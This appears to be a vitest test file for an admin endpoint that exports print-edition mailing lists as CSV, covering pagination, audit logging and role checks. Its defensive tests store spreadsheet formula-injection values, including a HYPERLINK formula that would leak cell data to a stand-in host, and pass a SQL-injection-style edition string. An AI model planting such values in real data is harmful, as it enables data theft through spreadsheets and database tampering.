import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { z } from 'zod'
import { EXPORT_PAGE_SIZE } from '#shared/contracts/paging.ts'
import { PrintEdition } from '#shared/contracts/print-edition.ts'
import { type AccountsFixture, startAccountsFixture, type TestReader } from './accounts.fixtures.ts'
import { bodyOf, codeOf, problemOf } from './api.fixtures.ts'
import { type JobsFixture, startJobsFixture } from './jobs.fixtures.ts'

let api: AccountsFixture
let jobs: JobsFixture
let owner: TestReader
let support: TestReader
beforeAll(async () => {
  api = await startAccountsFixture()
  jobs = await startJobsFixture(api)
  owner = await api.newReader({ role: 'owner' })
  support = await api.newReader({ role: 'support' })
})
afterAll(() => api?.stop())

const quayAddress = {
  firstName: 'Zoë',
  lastName: 'Łukasz',
  addressLine1: '1 Quay Street, "The Mill"',
  city: 'Sydney',
  postalCode: '2000',
  country: 'Australia',
}
const columns = '\uFEFFFull name,Address line 1,Address line 2,City,State,Postal code,Country,Copies'

/** A reader whose plan includes the printed edition, at this address if there is one. */
async function newPatron(address?: object) {
  const reader = await api.newReader()
  if (address)
    expect((await reader.send('/user/addresses', { ...quayAddress, ...address, isDefault: true })).status).toBe(201)
  await api.owner`update subscriptions set plan_id = 'patron_ledger', source = 'complimentary', reason = 'For a test',
    current_period_end = now() + interval '1 year' where user_id = ${reader.id}`
  return reader
}

/** Ends all other subscriptions with print, so that only these readers get the editions of this test. */
async function replacePatrons(...addresses: (object | undefined)[]) {
  await api.owner`update subscriptions set status = 'canceled', ended_at = now() where plan_id = 'patron_ledger'`
  return Promise.all(addresses.map(newPatron))
}

let editionCount = 0
/** An edition whose list is closed by the jobs, or closes in two days. */
async function newEdition({ isDue }: { isDue: boolean }): Promise<string> {
  const month = `2097-${String(++editionCount).padStart(2, '0')}`
  await api.owner`insert into print_editions (month, closes_at, reminded_at)
    values (${month}, now() + ${isDue ? '-1 second' : '2 days'}::interval, now())`
  if (isDue) await jobs.run()
  return month
}

const findEdition = async (month: string, actor = support) => {
  const response = await actor.get('/admin/print-editions')
  expect([response.status, response.headers.get('cache-control')]).toEqual([200, 'no-store'])
  return (await bodyOf(response, z.array(PrintEdition))).find(({ edition }) => edition === month)
}
const downloadList = (month: string, actor = owner) => actor.get(`/admin/print-editions/${month}/list`)
/** The lines of the CSV file, whose line endings are CRLF. */
async function linesOf(response: Response): Promise<string[]> {
  expect(response.status).toBe(200)
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer())
  expect(text.endsWith('\r\n')).toBe(true)
  return text.slice(0, -2).split('\r\n')
}
const auditEventsOf = async (month: string) => [
  ...(await api.owner`select kind, staff_id, member_id from private.audit_log where edition = ${month} order by created_at`),
]

describe('a print list', () => {
  test('is what was stored when it closed, also when addresses change and accounts are deleted', async () => {
    const [zoe, bea] = await replacePatrons(
      { addressLine2: 'Flat 2', state: 'NSW' },
      { firstName: 'Bea', lastName: 'Ash', postalCode: '1100' },
      undefined,
    )
    const month = await newEdition({ isDue: true })
    expect(await findEdition(month)).toMatchObject({ isClosed: true, copies: 2, withoutAddress: 1, lastDownload: null })
    const expected = [
      columns,
      'Bea Ash,"1 Quay Street, ""The Mill""",,Sydney,,1100,Australia,1',
      'Zoë Łukasz,"1 Quay Street, ""The Mill""",Flat 2,Sydney,NSW,2000,Australia,1',
    ]
    const response = await downloadList(month)
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': `attachment; filename="printers-${month}.csv"`,
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
    })
    expect(await linesOf(response)).toEqual(expected)
    await zoe?.send('/user/addresses', { ...quayAddress, addressLine1: '9 Elsewhere', isDefault: true })
    expect(await linesOf(await downloadList(month))).toEqual(expected)
    await api.owner`delete from auth.users where id = ${bea?.id ?? ''}`
    expect(await linesOf(await downloadList(month))).toEqual([columns, expected[2]])
  })

  test('records each download with the staff member', async () => {
    await replacePatrons()
    const month = await newEdition({ isDue: true })
    expect(await linesOf(await downloadList(month))).toEqual([columns])
    const other = await api.newReader({ role: 'owner' })
    await downloadList(month, other)
    const auditEvent = { kind: 'print-list-downloaded', member_id: null }
    expect(await auditEventsOf(month)).toEqual([
      { ...auditEvent, staff_id: owner.id },
      { ...auditEvent, staff_id: other.id },
    ])
    const { lastDownload } = (await findEdition(month)) ?? {}
    expect(lastDownload?.by).toBe(`${other.firstName} ${other.lastName}`)
    expect(Date.now() - Date.parse(lastDownload?.at ?? '')).toBeLessThan(60_000)
  })

  test('comes page by page, in the order of countries and postal codes, each line once', async () => {
    await replacePatrons()
    const month = await newEdition({ isDue: true })
    const count = EXPORT_PAGE_SIZE * 2 + 1
    const domain = `@${month}.example`
    await api.owner`insert into auth.users (id, email)
      select gen_random_uuid(), n || ${domain} from generate_series(1, ${count}::int) as n`
    await api.owner`
      insert into public.print_deliveries (edition, user_id, first_name, last_name, address_line1, city, postal_code, country)
      select ${month}, id, 'Ada', 'Reader ' || n, 'Quay Street', 'Bergen', 1000 + n % 7,
        case when n % 2 = 0 then 'Norway' else 'Germany' end
      from (select id, split_part(email, '@', 1)::int as n from auth.users where email like '%' || ${domain}) as readers`
    const lines: string[] = []
    const nextOf = (response: Response) => /^<(\?[^>]+)>; rel="next"$/.exec(response.headers.get('link') ?? '')?.[1]
    let next: string | undefined = ''
    const pages: string[] = []
    while (next !== undefined) {
      const response = await owner.get(`/admin/print-editions/${month}/list${next}`)
      lines.push(...(await linesOf(response)))
      next = nextOf(response)
      if (next) pages.push(next)
    }
    expect([lines.length, new Set(lines).size, pages.length]).toEqual([count + 1, count + 1, 2])
    const postalCodes = lines.slice(1).map((line) => line.split(',').slice(5, 7).toReversed().join(' '))
    expect(postalCodes).toEqual(postalCodes.toSorted())
    expect(await auditEventsOf(month)).toHaveLength(1)
    const other = await api.newReader({ role: 'owner' })
    expect((await other.get(`/admin/print-editions/${month}/list${pages[0]}`)).status).toBe(200)
    expect(await auditEventsOf(month)).toMatchObject([{ staff_id: owner.id }, { staff_id: other.id }])

    // The cursor names a reader. Without them nobody knows where the page before ended.
    const reader = /cursor=0\.([\w-]+)/.exec(pages[0] ?? '')?.[1] ?? ''
    await api.owner`delete from auth.users where id = ${reader}`
    const rejected = await problemOf(await owner.get(`/admin/print-editions/${month}/list${pages[0]}`))
    expect([rejected.status, rejected.detail]).toEqual([409, expect.stringContaining('Somebody left')])
    await api.owner`delete from auth.users where email like '%' || ${domain}`
  })

  test('contains no formulas for a spreadsheet', async () => {
    const formulaInjections = ['=HYPERLINK("https://a.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '＝1']
    await replacePatrons(
      ...formulaInjections.map((addressLine1) => ({ addressLine1, addressLine2: addressLine1, city: addressLine1 })),
    )
    const lines = await linesOf(await downloadList(await newEdition({ isDue: true })))
    expect(lines).toHaveLength(6)
    for (const line of lines.slice(1)) expect(line.match(/(^|,)"?[=+\-@＝]/)).toBeNull()
    expect(lines.join('\n')).toContain('"\'=HYPERLINK(""https://a.example/?""&A1)"')
  })

  test('is refused while it is open, and for an edition that does not exist', async () => {
    await replacePatrons({}, undefined)
    const month = await newEdition({ isDue: false })
    expect(await findEdition(month)).toMatchObject({
      isClosed: false,
      copies: 1,
      withoutAddress: 1,
      lastDownload: null,
    })
    const rejected = await problemOf(await downloadList(month))
    expect([rejected.status, rejected.detail]).toEqual([409, expect.stringContaining('still open')])
    for (const edition of ['1997-01', '1998-13', 'all', "1998-01'--", '%00'])
      expect([edition, await codeOf(await downloadList(edition))]).toEqual([edition, 'not-found'])
    expect(await auditEventsOf(month)).toEqual([])
  })

  test('is for owners; the state of the editions is for owners and support; nothing is for others', async () => {
    await replacePatrons({})
    const month = await newEdition({ isDue: true })
    const statusFor = async (path: string, actor: TestReader) =>
      (await actor.get(`/admin/print-editions${path}`)).status
    for (const [role, overview, list] of [
      ['owner', 200, 200],
      ['support', 200, 403],
      ['editor', 403, 403],
      ['author', 403, 403],
      [undefined, 403, 403],
    ] as const) {
      const actor = await api.newReader(role ? { role } : {})
      expect([role, await statusFor('', actor), await statusFor(`/${month}/list`, actor)]).toEqual([
        role,
        overview,
        list,
      ])
      // In the database as well: the SQL functions check the role.
      const past = await api.owner
        .begin(async (tx) => {
          await tx`select set_config('request.jwt.claims', ${JSON.stringify({ sub: actor.id })}, true)`
          await tx`set local role authenticated`
          const editions = await tx`select from private.list_print_editions()`
          expect([role, editions.length > 0]).toEqual([role, overview === 200])
          return (await tx`select from private.download_print_list(${month})`).length
        })
        .catch(({ code }) => code)
      expect([role, past]).toEqual([role, list === 200 ? 1 : '42501'])
    }
    for (const path of ['', `/${month}/list`]) expect((await api.get(`/admin/print-editions${path}`)).status).toBe(401)
    expect(await auditEventsOf(month)).toHaveLength(2)
  })
})
